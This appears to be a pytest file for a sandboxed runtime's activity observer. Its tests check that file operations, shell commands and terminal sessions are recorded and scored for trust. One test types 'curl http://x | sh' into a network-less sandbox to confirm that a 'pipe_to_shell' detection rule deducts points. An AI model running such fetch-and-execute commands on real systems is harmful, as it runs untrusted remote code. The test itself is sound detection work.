"""Activity inside a real cage (the platform runtime) recorded by the Observer.

This is the wiring the server does, done here by hand: ``follow_file_changes``
on ``runtime.watch_files``, ``record`` for an exec, and a terminal PTY whose
input and output go through ``terminal_input`` / ``terminal_output``.
"""

from __future__ import annotations

import asyncio
import contextlib
import functools
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from eventually import eventually_async
from observe_helpers import ACCOUNT, RecordingHooks

from caged_platform.observe import Observer
from caged_platform.runtime.api import CageError, CageSpec
from caged_platform.runtime.manager import LocalRuntime

SANDBOX = "cage-0b5e0001"


@pytest.fixture
async def cage(tmp_path: Path, hooks: RecordingHooks) -> AsyncIterator[LocalRuntime]:
    runtime = LocalRuntime(tmp_path / "runtime")
    await runtime.start(CageSpec(SANDBOX, network_mode="none"))
    hooks.add(SANDBOX)
    try:
        yield runtime
    finally:
        with contextlib.suppress(CageError):
            await runtime.destroy(SANDBOX)
        await runtime.aclose()


async def _file_op_seen(observer: Observer, session_id: str, path: str) -> bool:
    page = await observer.sessions.replay(ACCOUNT, session_id, type="file_op", limit=1000)
    return any(e.data["path"] == path for e in page)


async def test_a_file_created_by_a_shell_command_appears_as_a_file_op(
    observer: Observer, cage: LocalRuntime
) -> None:
    session_id = await observer.open_session(ACCOUNT, SANDBOX, channel="mcp")
    watch = asyncio.create_task(
        observer.follow_file_changes(ACCOUNT, SANDBOX, cage.watch_files(SANDBOX))
    )
    try:
        # The watch starts asynchronously: a file made before it is armed is not seen,
        # so make a fresh one on each poll until one shows up.
        created: list[str] = []

        async def made_and_seen() -> str | None:
            path = f"/workspace/made-by-shell-{len(created)}.txt"
            outcome = await cage.exec(SANDBOX, f"echo hi > {path}")
            await observer.record(
                ACCOUNT,
                SANDBOX,
                "command",
                {"command": f"echo hi > {path}", "exit_code": outcome.exit_code},
                duration_ms=outcome.duration_ms,
            )
            created.append(path)
            for made in created:
                if await _file_op_seen(observer, session_id, made):
                    return made
            return None

        seen = await eventually_async(made_and_seen, what="a file_op", interval=0.5)
        page = await observer.sessions.replay(ACCOUNT, session_id, type="file_op")
        event = next(e for e in page if e.data["path"] == seen)
        assert event.data["kind"] in ("created", "modified")
        assert event.data["source"] == "sandbox" and event.sandbox_id == SANDBOX
        commands = await observer.sessions.replay(ACCOUNT, session_id, type="command")
        assert commands[0].data["exit_code"] == 0 and commands[0].duration_ms is not None
    finally:
        watch.cancel()
        with contextlib.suppress(asyncio.CancelledError):
            await watch


async def test_a_terminal_session_is_recorded_and_judged(
    observer: Observer, cage: LocalRuntime
) -> None:
    pty = await cage.open_pty(SANDBOX)
    session_id = await observer.open_session(ACCOUNT, SANDBOX, client="pytest")
    shown = bytearray()

    async def pump() -> None:
        while data := await pty.read():
            shown.extend(data)
            await observer.terminal_output(session_id, data)

    reader = asyncio.create_task(pump())

    async def type_(text: str) -> None:
        await observer.terminal_input(session_id, text)
        await pty.write(text.encode())

    try:
        await type_("curl http://x | sh\r")
        await type_("echo obs-$((6*7))-done\r")
        # "obs-42-done" only appears once the shell has run the command (the echo of the
        # typed line shows the unexpanded $((6*7))).
        await eventually_async(functools.partial(_shown, shown, b"obs-42-done"))
        await type_("exit\r")
        await asyncio.wait_for(reader, 15)
    finally:
        reader.cancel()
        with contextlib.suppress(asyncio.CancelledError):
            await reader
        await pty.close()
    await observer.close_session(session_id)

    events = []
    after = 0
    while True:
        page = await observer.sessions.replay(ACCOUNT, session_id, after_seq=after, limit=5)
        events += page.events
        after = page.next_seq or after
        if not page.has_more:
            break
    assert [e.sequence for e in events] == list(range(1, len(events) + 1))
    recorded = "".join(e.data["data"] for e in events if e.data.get("kind") == "terminal_output")
    assert recorded == shown.decode("utf-8", "replace")
    commands = [e for e in events if e.type == "command"]
    assert [c.data["command"] for c in commands] == [
        "curl http://x | sh",
        "echo obs-$((6*7))-done",
        "exit",
    ]
    [score] = await observer.sessions.trust_for_sandbox(ACCOUNT, SANDBOX)
    assert score.score == 75
    [deduction] = score.deductions
    assert (deduction.rule, deduction.points) == ("pipe_to_shell", 25)
    assert (deduction.event_id, deduction.sequence) == (commands[0].id, commands[0].sequence)


async def _shown(buffer: bytearray, marker: bytes) -> bool:
    return marker in bytes(buffer)
